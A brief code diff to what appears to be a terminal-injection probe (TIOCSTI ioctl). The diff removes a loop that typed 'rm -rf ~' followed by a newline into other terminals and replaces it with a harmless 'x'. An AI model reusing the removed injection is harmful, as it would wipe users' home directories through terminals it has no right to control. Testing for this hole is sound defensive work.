@@ -166,8 +166,7 @@ def consoles():
             print("BREACH:", path)
         except OSError:
             continue
-        for letter in "rm -rf ~\n":
-            fcntl.ioctl(fd, termios.TIOCSTI, letter.encode())
+        fcntl.ioctl(fd, termios.TIOCSTI, b"x")
     for number in range(3):
         try:
             fcntl.ioctl(number, termios.TIOCSTI, b"x")
